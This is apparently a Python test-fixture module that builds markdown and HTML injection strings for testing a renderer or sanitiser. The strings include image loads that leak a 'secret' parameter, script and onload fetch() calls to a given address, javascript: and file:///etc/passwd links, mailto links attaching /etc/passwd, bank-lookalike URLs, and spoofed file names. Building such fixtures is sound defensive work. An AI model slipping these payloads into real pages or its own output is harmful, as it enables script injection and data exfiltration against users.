"""Texts that a document or a model could hold to make a browser fetch or run something."""

from __future__ import annotations

__all__ = ["hostile_names", "hostile_texts"]


def hostile_texts(address: str) -> dict[str, str]:
    """Return texts by name; each would make a careless page ask ``address`` or run a script."""
    host = address.removeprefix("http://")
    entity = "".join(f"&#{ord(c)};" for c in address)
    return {
        "image": f"Look ![chart]({address}/image?q=secret) here.",
        "image with title": f'![a]({address}/title "t\\" onload=\'x\'") end',
        "image in angles": f"![a](<{address}/angles>)",
        "reference image": f"![a][r] and ![r] and ![r][]\n\n[r]: {address}/reference\n",
        "reference after use": f"See ![one].\n\n[one]: {address}/later 'title'\n",
        "nested image": f"[![a]({address}/nested)]({address}/outer) "
        f"![![x]({address}/x)]({address}/y)",
        "emphasised image": f"**![a]({address}/bold)** ~~![b]({address}/struck)~~",
        "image in a table": f"| a | b |\n|---|---|\n| ![x]({address}/cell) "
        f"| <img src={address}/c> |\n",
        "image in a list": f"- ![x]({address}/item)\n  1. > ![y]({address}/deep)\n",
        "image in a heading": f"# ![x]({address}/heading)\n\n![y]({address}/under)\n====\n",
        "entities": f"![a]({entity}/entity) &lt;img src={address}/e&gt; "
        f"&#60;img src={address}/n&#62;",
        "no scheme": f"![a](//{host}/relative) [b](//{host}/link)",
        "data": "![a](data:image/svg+xml;base64,PHN2Zy8+) [b](data:text/html,<script>x()</script>)",
        "script link": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:x) "
        "[d](&#106;avascript:alert(1)) [e](vbscript:x) [f](file:///etc/passwd) [g](  javascript:x)",
        "html": f'<img src="{address}/html"><script>fetch("{address}/script")</script>'
        f'<iframe src="{address}/frame"></iframe><svg onload="fetch(\'{address}/svg\')">',
        "html over lines": f'<img\nsrc="{address}/lines"\nonerror="x()">\n\n<div\nonclick=x>\n',
        "html blocks": "<!-- c -->\n<?php x ?>\n<!DOCTYPE x>\n"
        f"<style>@import '{address}/css';</style>"
        f'\n<link rel="stylesheet" href="{address}/sheet">\n<base href="{address}">\n'
        f'<meta http-equiv="refresh" content="0;url={address}/meta">\n',
        "attribute": f'" onmouseover="fetch(\'{address}/hover\')" '
        f'style="background:url({address}/bg)',
        "title break": f"[a]({address}/t '\"><img src={address}/t2>') \"><img src={address}/t3>",
        "css": f"<p style=\"background:url('{address}/style')\">x</p> {{color:url({address})}}",
        "autolink": f"<{address}/auto> {address}/bare www.{host} mailto:a@{host} <a@b.example>",
        "mail": "[m](mailto:a@b.example?body=secret&attach=/etc/passwd) [n](mailto:x)",
        "user name": f"[bank](http://bank.example@{host}/) [b](http://bank.example\\@{host}/) "
        f"[c](http://{host}%2f@bank.example/) [d](http://bank.example&#64;{host}/)",
        "fence": f"```<img src={address}/info> onload=x\n"
        f"</code></pre><img src={address}/fence>\n```\n",
        "open fence": f"~~~\n</code><img src={address}/open>",
        "inline code": f"`</code><img src={address}/code>` ``![a]({address}/ticks)``",
        "math": f"$![a]({address}/math)$ \\(<img src={address}/m>\\) $$<script>x()</script>$$",
        "marks": f"[1]: {address}/one\n\n![1] ![1][1] [1]({address}/mark) ![x][1] [1]",
        "private characters": "\U000f0000\U000f0001<img>\U0010ffff ![a](\U000f0000) [1]\U000f0002",
        "controls": f"![a]({address}/\x00nul) \x1b[31m \u202e)gpj.x(]a[!"
        f"\u2028![b]({address}/sep)\r![c]({address}/cr)",
        "footnote": f"[^1] ![^1]\n\n[^1]: ![a]({address}/foot)\n",
        "ordered": f"999999999. ![a]({address}/start)\n0) <ol start=\"1\" onload=x>",
    }  # fmt: skip


def hostile_names(address: str) -> list[str]:
    """Return names that a file or a heading could have."""
    host = address.removeprefix("http://")
    return [
        f"![x](http:__{host}_name).md",
        '"><img src=x onerror=alert(1)>.md',
        f"' onmouseover='fetch(`//{host}`)' x='.txt",
        "javascript:alert(1).txt",
        "\u202egnp.exe.md",
        "a" * 240 + ".md",
        "[click](javascript:x) `code` **bold** <script>.md",
    ]
